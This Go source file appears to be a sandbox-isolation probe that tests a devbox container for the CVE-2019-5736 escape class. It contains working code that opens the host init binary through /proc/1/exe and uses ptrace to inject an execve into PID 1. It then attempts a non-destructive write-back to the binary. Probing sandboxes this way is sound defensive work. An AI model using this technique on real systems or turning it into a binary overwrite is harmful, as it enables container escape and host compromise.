package main

// probe initexe: the CVE-2019-5736 class against the box init. The init
// is PID 1 of the box and runs devbox's init program, a file on the host
// that every later box start executes. The probe opens it through
// /proc/1/exe (O_PATH), changes its mode to what it is (a metadata write
// to the host file: the ctime shows it), tries to open it for writing
// while the init runs it (ETXTBSY), then, where it may trace PID 1, makes
// the init execute /bin/sleep (ptrace: an execve put in at its
// instruction pointer), so that nothing in the box runs the program any
// more, and tries again. A write writes the file's first bytes back
// unchanged: "write after exec: ok" is the way to replace the program.
// Run from init, like abstract.go.

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func init() {
	if len(os.Args) < 2 || os.Args[1] != "initexe" {
		return
	}
	initExe()
	os.Exit(0)
}

func initExe() {
	before, _ := os.Readlink("/proc/1/exe")
	fmt.Printf("exe: %s\n", before)
	fd, err := unix.Open("/proc/1/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
	result("open /proc/1/exe", err)
	if err != nil {
		return
	}
	self := "/proc/self/fd/" + strconv.Itoa(fd)
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err == nil {
		fmt.Printf("file: uid %d mode %o size %d\n", st.Uid, st.Mode&0o7777, st.Size)
		result("chmod", unix.Chmod(self, st.Mode&0o7777))
	}
	result("write while running", writeBack(self))
	result("exec pid 1", execInit("/bin/sleep", "5"))
	for i := 0; i < 100; i++ {
		if l, _ := os.Readlink("/proc/1/exe"); l != before {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	after, err := os.Readlink("/proc/1/exe")
	fmt.Printf("exe after: %s %v\n", after, err)
	result("write after exec", writeBack(self))
}

// writeBack opens path for writing and writes its first 16 bytes back.
func writeBack(path string) error {
	w, err := unix.Open(path, unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(w)
	b := make([]byte, 16)
	n, err := unix.Pread(w, b, 0)
	if err != nil {
		return err
	}
	_, err = unix.Pwrite(w, b[:n], 0)
	return err
}

// execInit makes PID 1 execute prog with arg: it seizes it, interrupts
// it, writes the strings and argv below its stack pointer and a syscall
// instruction at its instruction pointer, sets the registers for execve
// and lets it go.
func execInit(prog, arg string) error {
	if runtime.GOARCH != "amd64" {
		return errors.New("only on amd64")
	}
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	const seize, interrupt = 0x4206, 0x4207
	if _, _, e := unix.Syscall6(unix.SYS_PTRACE, seize, 1, 0, 0, 0, 0); e != 0 {
		return fmt.Errorf("seize: %w", e)
	}
	if _, _, e := unix.Syscall6(unix.SYS_PTRACE, interrupt, 1, 0, 0, 0, 0); e != 0 {
		return fmt.Errorf("interrupt: %w", e)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(1, &ws, unix.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	var regs unix.PtraceRegs
	if err := unix.PtraceGetRegs(1, &regs); err != nil {
		return fmt.Errorf("getregs: %w", err)
	}
	base := (regs.Rsp - 1024) &^ 15
	pathAt, argAt := base+32, base+32+uint64(len(prog))+1
	data := make([]byte, 32)
	binary.LittleEndian.PutUint64(data[0:], pathAt)
	binary.LittleEndian.PutUint64(data[8:], argAt)
	data = append(append(append(append(data, prog...), 0), arg...), 0)
	if _, err := unix.PtracePokeData(1, uintptr(base), data); err != nil {
		return fmt.Errorf("poke argv: %w", err)
	}
	if _, err := unix.PtracePokeText(1, uintptr(regs.Rip), []byte{0x0f, 0x05}); err != nil {
		return fmt.Errorf("poke syscall: %w", err)
	}
	regs.Rax, regs.Orig_rax = unix.SYS_EXECVE, ^uint64(0)
	regs.Rdi, regs.Rsi, regs.Rdx = pathAt, base, 0
	if err := unix.PtraceSetRegs(1, &regs); err != nil {
		return fmt.Errorf("setregs: %w", err)
	}
	if err := unix.PtraceDetach(1); err != nil {
		return fmt.Errorf("detach: %w", err)
	}
	return nil
}
